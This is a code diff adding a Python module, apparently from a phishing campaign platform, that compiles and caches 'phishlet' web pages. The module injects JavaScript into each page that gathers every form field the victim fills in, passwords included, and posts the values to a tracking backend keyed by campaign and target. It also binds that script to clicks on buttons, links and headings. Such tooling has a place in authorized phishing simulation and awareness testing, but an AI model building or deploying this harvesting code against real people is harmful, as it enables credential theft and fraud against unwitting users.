@@ -0,0 +1,129 @@
+import os
+import threading
+from collections import OrderedDict
+from typing import Dict, List, Optional, Tuple
+from uuid import uuid4
+
+from bs4 import BeautifulSoup
+
+PHISHLET_CACHE_SIZE = int(os.getenv("PHISHLET_CACHE_SIZE", "64"))
+
+# Stands in for "<campaign_id>*<target_id>" in compiled pages; random so no page can contain it
+TRACK_TOKEN = f"__track_{uuid4().hex}__"
+
+
+def tracking_script(track_id: str) -> str:
+    """Script posting every form field of the page to the f2 tracker"""
+    track_src = os.getenv("BACKEND_URL", "http://localhost:8000")
+    return f"""
+        function sendFormData() {{
+            const data = {{}};
+            const elements = document.querySelectorAll('input, select, textarea');
+            elements.forEach(el => {{
+                if (el.name || el.id || el.tagName) {{
+                    const key = el.name || el.id || el.tagName;
+                    let value = el.value;
+
+                    if (el.type === 'checkbox' || el.type === 'radio') {{
+                        value = el.checked;
+                    }}
+
+                    data[key] = {{
+                        "type": el.tagName.toLowerCase(),
+                        "value": value,
+                        "id": el.id || "",
+                        "required": el.required || false,
+                        "placeholder": el.placeholder || ""
+                    }};
+                }}
+            }});
+
+            const payload = {{ fields: data }};
+            console.log("Payload:", payload);
+
+            fetch("{track_src}/api/v1/track/f2/{track_id}", {{
+                method: "POST",
+                headers: {{
+                    "Content-Type": "application/json"
+                }},
+                body: JSON.stringify(payload)
+            }});
+        }}
+        """
+
+
+class CompiledPhishlet:
+    """A phishlet page parsed once, in its plain and its tracked form"""
+
+    def __init__(self, html_content: str):
+        soup = BeautifulSoup(html_content, 'html.parser')
+        self.plain = str(soup)
+
+        script_tag = soup.new_tag('script')
+        script_tag.string = tracking_script(TRACK_TOKEN)
+        if soup.body:
+            soup.body.append(script_tag)
+        elif soup.head:
+            soup.head.append(script_tag)
+        else:
+            soup.append(script_tag)
+        for button in soup.find_all(['button', 'a', 'h1']):
+            button['onclick'] = "sendFormData()"
+        self.tracked_chunks: List[str] = str(soup).split(TRACK_TOKEN)
+
+    def render(self, campaign_id: Optional[int] = None, target_id: Optional[int] = None) -> str:
+        if campaign_id is None or target_id is None:
+            return self.plain
+        return f"{campaign_id}*{target_id}".join(self.tracked_chunks)
+
+
+class PhishletCache:
+    """LRU of compiled phishlets keyed by (url_id, updated_at).
+
+    Shared by the DB and CPU worker threads, so entries are only touched
+    under a lock; pages are compiled outside it.
+    """
+
+    def __init__(self, max_size: int = PHISHLET_CACHE_SIZE):
+        self.max_size = max(1, max_size)
+        self._entries: "OrderedDict[Tuple[str, object], CompiledPhishlet]" = OrderedDict()
+        self._keys: Dict[str, Tuple[str, object]] = {}
+        self._lock = threading.Lock()
+
+    def get(self, url_id: str, updated_at) -> Optional[CompiledPhishlet]:
+        key = (url_id, updated_at)
+        with self._lock:
+            compiled = self._entries.get(key)
+            if compiled is not None:
+                self._entries.move_to_end(key)
+        return compiled
+
+    def put(self, url_id: str, updated_at, html_content: str) -> CompiledPhishlet:
+        compiled = CompiledPhishlet(html_content)
+        key = (url_id, updated_at)
+        with self._lock:
+            # An older version of the same phishlet is never served again
+            self._drop(url_id)
+            self._entries[key] = compiled
+            self._keys[url_id] = key
+            while len(self._entries) > self.max_size:
+                old_key, _ = self._entries.popitem(last=False)
+                self._keys.pop(old_key[0], None)
+        return compiled
+
+    def warm(self, phishlet):
+        """Compile a freshly saved phishlet so its first visit is already cached"""
+        if phishlet and phishlet.url_id and phishlet.html_content:
+            self.put(phishlet.url_id, phishlet.updated_at, phishlet.html_content)
+
+    def invalidate(self, url_id: str):
+        with self._lock:
+            self._drop(url_id)
+
+    def _drop(self, url_id: str):
+        key = self._keys.pop(url_id, None)
+        if key is not None:
+            self._entries.pop(key, None)
+
+
+phishlet_cache = PhishletCache()